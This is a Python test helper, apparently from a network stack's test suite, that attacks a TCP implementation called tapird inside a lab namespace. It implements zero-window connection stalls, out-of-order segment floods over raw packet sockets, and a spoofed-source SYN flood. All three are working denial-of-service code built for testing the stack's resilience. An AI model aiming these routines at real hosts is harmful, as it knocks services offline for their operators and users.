#!/usr/bin/env python3
"""TCP memory attacks on tapird for t_tcp_attack.sh (run inside the lab).

  stall HOST PORT N MODE HOLD READY RELEASE
        open N kernel TCP connections to HOST:PORT with a tiny receive
        buffer that is never read, so that the kernel advertises a zero
        window once tapird has filled it.  MODE "get:PATH" sends an HTTP
        GET for PATH on each; "push:BYTES" sends up to BYTES on each (to
        an echo port: what comes back is never read, so tapird's send
        buffer fills, then its receive buffer).  Writes "READY ..." to the
        file READY once all are open and loaded, then holds them until the
        file RELEASE exists or HOLD seconds have passed, and closes them
        all (unread data: the kernel resets each).

  ooo IFACE MAC IP DST_MAC DST_IP PORT N WINDOW HOLD READY RELEASE
        with a packet socket on IFACE, as the host MAC/IP (answering ARP
        for IP), complete N handshakes with DST_IP:PORT and then, on each,
        send 1000-byte segments beyond RCV.NXT with a 1000-byte hole before
        each, up to WINDOW bytes past RCV.NXT (or the 64 KiB an unscaled
        window allows), so that the out-of-order queues fill.  Writes
        "READY ..." to READY, holds as stall does, then resets every
        connection.

  syn IFACE MAC FIRST+COUNT DST_MAC DST_IP PORT N SECS READY RELEASE
        send N SYNs (for at most SECS seconds) to DST_IP:PORT from random
        ports of random addresses among the COUNT from FIRST on (ARP for
        them answered with MAC), never completing a handshake.  Writes
        "READY ..." to READY, holds (at most 120 s) until RELEASE exists,
        then resets every half-open connection a SYN-ACK showed.

Every loop is bounded in count and time; nothing is sent but to the
addresses given, which the test keeps inside its lab namespace.
"""
import errno
import os
import random
import resource
import select
import selectors
import socket
import struct
import sys
import time


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n + 64
    if soft != resource.RLIM_INFINITY and soft < want:
        if hard != resource.RLIM_INFINITY and hard < want:
            want = hard
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def write_ready(path, text):
    tmp = path + ".tmp"
    with open(tmp, "w") as f:
        f.write(text + "\n")
    os.rename(tmp, path)


def hold(release, secs):
    end = time.monotonic() + secs
    while time.monotonic() < end and not os.path.exists(release):
        time.sleep(0.1)


# ---- stall: kernel connections that never read ---------------------------

def stall(host, port, n, mode, hold_s, ready, release):
    port, n, hold_s = int(port), int(n), float(hold_s)
    raise_nofile(n)
    kind, _, arg = mode.partition(":")
    if kind == "get":
        req = ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (arg, host)).encode()
        push = 0
    elif kind == "push":
        req = b""
        push = int(arg)
    else:
        raise SystemExit("bad MODE " + mode)
    t0 = time.monotonic()
    pending = {}
    sel = selectors.DefaultSelector()  # epoll: thousands of descriptors
    conns = []
    failed = 0
    batch = 200
    deadline = t0 + 60
    i = 0
    while (i < n or pending) and time.monotonic() < deadline:
        while i < n and len(pending) < batch:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            # Before connect(): the window scale offered follows it.
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
            s.setblocking(False)
            rc = s.connect_ex((host, port))
            if rc not in (0, errno.EINPROGRESS):
                failed += 1
                s.close()
            else:
                pending[s.fileno()] = s
                sel.register(s, selectors.EVENT_WRITE)
            i += 1
        if not pending:
            continue
        for key, _ in sel.select(1.0):
            s = pending.pop(key.fd)
            sel.unregister(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                failed += 1
                s.close()
                continue
            conns.append(s)
    for s in pending.values():
        failed += 1
        s.close()
    connect_s = time.monotonic() - t0
    # Load every connection: the request, or as much as the kernel takes
    # (a few rounds: the echoed data comes back meanwhile).
    chunk = b"x" * 65536
    sent = [0] * len(conns)
    for rnd in range(10 if push else 1):
        for k, s in enumerate(conns):
            try:
                if req and not rnd:
                    s.send(req)
                elif push and sent[k] < push:
                    sent[k] += s.send(chunk[:push - sent[k]])
            except OSError:
                pass
        if push:
            time.sleep(0.2)
    write_ready(ready, "READY connected=%d failed=%d pushed=%d connect_s=%.1f"
                % (len(conns), failed, sum(sent), connect_s))
    hold(release, hold_s)
    for s in conns:
        s.close()
    print("closed %d" % len(conns))
    return 0


# ---- ooo: raw handshakes, then segments beyond holes ----------------------

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
PACKET_OUTGOING = 4
SEG = 1000


def mac(s):
    b = bytes(int(x, 16) for x in s.split(":"))
    if len(b) != 6:
        raise ValueError("bad MAC " + s)
    return b


def csum(data):
    if len(data) % 2:
        data += b"\0"
    t = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while t >> 16:
        t = (t & 0xFFFF) + (t >> 16)
    return ~t & 0xFFFF


class Raw:
    def __init__(self, iface, my_mac, my_ip, dst_mac, dst_ip):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                               socket.htons(ETH_P_ALL))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.s.bind((iface, 0))
        self.s.setblocking(False)
        self.mac, self.ip = mac(my_mac), socket.inet_aton(my_ip)
        self.dmac, self.dip = mac(dst_mac), socket.inet_aton(dst_ip)
        self.ip_id = 0
        self.net = None  # (first, count): more addresses of ours

    def mine(self, a):
        if a == self.ip:
            return True
        if not self.net:
            return False
        k = struct.unpack("!I", a)[0] - self.net[0]
        return 0 <= k < self.net[1]

    def send_tcp(self, sport, dport, seq, ack, flags, win, opts=b"",
                 data=b"", src=None):
        src = src or self.ip
        opts += b"\0" * (-len(opts) % 4)
        off = (20 + len(opts)) // 4
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF,
                          ack & 0xFFFFFFFF, off << 4, flags, win, 0, 0)
        seg = tcp + opts + data
        pseudo = src + self.dip + struct.pack("!BBH", 0, 6, len(seg))
        c = csum(pseudo + seg)
        seg = seg[:16] + struct.pack("!H", c) + seg[18:]
        self.ip_id = (self.ip_id + 1) & 0xFFFF
        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg),
                          self.ip_id, 0x4000, 64, 6, 0, src, self.dip)
        iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
        frame = self.dmac + self.mac + struct.pack("!H", ETH_P_IP) + iph + seg
        for _ in range(50):
            try:
                self.s.send(frame)
                return
            except BlockingIOError:
                time.sleep(0.001)

    def arp_reply(self, frame):
        # The request's sender; we answer for our address only.
        if len(frame) < 42:
            return
        op, = struct.unpack("!H", frame[20:22])
        sha, spa, tpa = frame[22:28], frame[28:32], frame[38:42]
        if op != 1 or not self.mine(tpa):
            return
        reply = (sha + self.mac + struct.pack("!H", ETH_P_ARP) +
                 struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, 2) +
                 self.mac + tpa + sha + spa)
        self.s.send(reply)

    def frames(self, timeout):
        """Frames for us (not our own), ARP answered on the way."""
        r, _, _ = select.select([self.s], [], [], timeout)
        if not r:
            return
        for _ in range(10000):
            try:
                frame, addr = self.s.recvfrom(65535)
            except BlockingIOError:
                return
            if addr[2] == PACKET_OUTGOING or len(frame) < 14:
                continue
            et, = struct.unpack("!H", frame[12:14])
            if et == ETH_P_ARP:
                self.arp_reply(frame)
            elif et == ETH_P_IP:
                yield frame[14:]


def paced_resets(raw, conns):
    """Reset each connection (sport, dport, seq, ack[, src]), twice, a
    batch at a time: a burst larger than the TAP's queue would be dropped
    before tapird reads it."""
    for _ in range(2):
        for k, c in enumerate(conns):
            raw.send_tcp(c[0], c[1], c[2], c[3], 0x04, 0,
                         src=c[4] if len(c) > 4 else None)
            if k % 100 == 99:
                time.sleep(0.01)
        time.sleep(0.2)


def parse_tcp(ip, src, dst):
    """(sport, dport, seq, ack, flags, ws) of a segment src -> dst (dst
    None: any)."""
    if len(ip) < 20 or ip[9] != 6 or ip[12:16] != src or \
            (dst is not None and ip[16:20] != dst):
        return None
    ihl = (ip[0] & 15) * 4
    t = ip[ihl:]
    if len(t) < 20:
        return None
    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
    ws = None
    opts = t[20:(off >> 4) * 4]
    k = 0
    while k < len(opts):
        kind = opts[k]
        if kind == 0:
            break
        if kind == 1:
            k += 1
            continue
        if k + 1 >= len(opts) or opts[k + 1] < 2:
            break
        if kind == 3 and opts[k + 1] == 3 and k + 2 < len(opts):
            ws = opts[k + 2]
        k += opts[k + 1]
    return sport, dport, seq, ack, flags, ws


def ooo(iface, my_mac, my_ip, dst_mac, dst_ip, port, n, window, hold_s,
        ready, release):
    port, n, window, hold_s = int(port), int(n), int(window), float(hold_s)
    raw = Raw(iface, my_mac, my_ip, dst_mac, dst_ip)
    base = 20000 + random.randrange(0, 20000)
    ports = [base + k for k in range(n)]
    iss = {p: random.getrandbits(32) for p in ports}
    est = {}   # port -> (our next seq, their next seq, window we may fill)
    syn_opts = (struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" +
                struct.pack("!BBB", 3, 3, 7))
    segs = 0
    t0 = time.monotonic()
    deadline = t0 + 40
    last_syn = {}
    resets = 0
    while len(est) < n and time.monotonic() < deadline:
        now = time.monotonic()
        # SYNs, a bounded batch at a time; again after 1 s unanswered.
        out = sum(1 for q, at in last_syn.items()
                  if q not in est and now - at < 1.0)
        for p in ports:
            if out >= 64:
                break
            if p in est or now - last_syn.get(p, -10) < 1.0:
                continue
            raw.send_tcp(p, port, iss[p], 0, 0x02, 65535, syn_opts)
            last_syn[p] = now
            out += 1
        for ip in raw.frames(0.05):
            t = parse_tcp(ip, raw.dip, raw.ip)
            if not t or t[0] != port or t[1] not in iss:
                continue
            sport, dport, seq, ack, flags, ws = t
            if flags & 0x04:
                resets += 1
                continue
            if (flags & 0x12) != 0x12 or dport in est:
                continue
            if ack != (iss[dport] + 1) & 0xFFFFFFFF:
                continue
            snd, rcv = iss[dport] + 1, seq + 1
            fill = window if ws is not None else min(window, 65535)
            est[dport] = (snd, rcv, fill)
            raw.send_tcp(dport, port, snd, rcv, 0x10, 65535)
            # Data with a hole before each segment, never at RCV.NXT.
            off = SEG
            while off + SEG <= fill:
                raw.send_tcp(dport, port, snd + off, rcv, 0x18, 65535,
                             data=b"o" * SEG)
                segs += 1
                off += 2 * SEG
    # Drain what tapird sent meanwhile (its duplicate ACKs).
    for _ in raw.frames(0.2):
        pass
    write_ready(ready, "READY established=%d segments=%d resets=%d "
                "handshake_s=%.1f" % (len(est), segs, resets,
                                      time.monotonic() - t0))
    end = time.monotonic() + hold_s
    while time.monotonic() < end and not os.path.exists(release):
        for _ in raw.frames(0.1):  # keep answering ARP
            pass
    resets = [(p, port, snd, rcv) for p, (snd, rcv, _) in est.items()]
    paced_resets(raw, resets)
    print("reset %d" % len(est))
    return 0


def syn(iface, my_mac, net, dst_mac, dst_ip, port, count, secs, ready,
        release):
    """SYNs from random addresses of net (first.address/25 style: FIRST
    and how many) and random ports, never completed; resets the half-open
    connections they made when released."""
    port, count, secs = int(port), int(count), float(secs)
    first, _, size = net.partition("+")
    raw = Raw(iface, my_mac, first, dst_mac, dst_ip)
    base = struct.unpack("!I", socket.inet_aton(first))[0]
    raw.net = (base, int(size))
    opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02"
    seen = {}  # (src, sport) -> our next seq, their next seq
    t0 = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - t0 < secs:
        for _ in range(200):
            src = struct.pack("!I", base + random.randrange(int(size)))
            raw.send_tcp(random.randrange(1024, 65536), port,
                         random.getrandbits(32), 0, 0x02, 65535, opts,
                         src=src)
            sent += 1
        for ip in raw.frames(0.005):
            t = parse_tcp(ip, raw.dip, None)
            if t and t[0] == port and (t[4] & 0x12) == 0x12:
                seen[(ip[16:20], t[1])] = (t[3], t[2] + 1)
    write_ready(ready, "READY syns=%d synacks=%d" % (sent, len(seen)))
    end = time.monotonic() + 120
    while time.monotonic() < end and not os.path.exists(release):
        for ip in raw.frames(0.1):  # answer ARP; note retransmissions
            t = parse_tcp(ip, raw.dip, None)
            if t and t[0] == port and (t[4] & 0x12) == 0x12:
                seen[(ip[16:20], t[1])] = (t[3], t[2] + 1)
    paced_resets(raw, [(sport, port, snd, rcv, src)
                       for (src, sport), (snd, rcv) in seen.items()])
    # SYN-ACKs sent again from now on (their first ones may have waited
    # for ARP and been dropped) are reset as they come, for a while.
    late = {}
    end = time.monotonic() + 3
    while time.monotonic() < end:
        for ip in raw.frames(0.1):
            t = parse_tcp(ip, raw.dip, None)
            key = t and (ip[16:20], t[1])
            if t and t[0] == port and (t[4] & 0x12) == 0x12 and \
                    key not in seen and key not in late:
                late[key] = (t[3], t[2] + 1)
                raw.send_tcp(t[1], port, t[3], t[2] + 1, 0x04, 0,
                             src=ip[16:20])
    print("reset %d (%d late)" % (len(seen) + len(late), len(late)))
    return 0


def main():
    a = sys.argv[1:]
    if len(a) == 11 and a[0] == "syn":
        return syn(*a[1:])
    if len(a) == 8 and a[0] == "stall":
        return stall(*a[1:])
    if len(a) == 12 and a[0] == "ooo":
        return ooo(*a[1:])
    sys.stderr.write(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(main())
